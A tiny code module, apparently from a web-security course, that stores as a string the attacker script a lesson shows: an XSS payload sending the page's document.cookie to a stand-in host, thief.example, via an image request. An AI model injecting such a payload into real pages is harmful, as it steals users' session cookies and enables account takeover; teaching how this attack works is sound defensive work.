/** The script of a thief, as lesson 6 shows it and as it runs in the attacked page. The address is the thief's. */
export const STEAL = `new Image().src =
  'https://thief.example/?' +
  encodeURIComponent(
    document.cookie)`
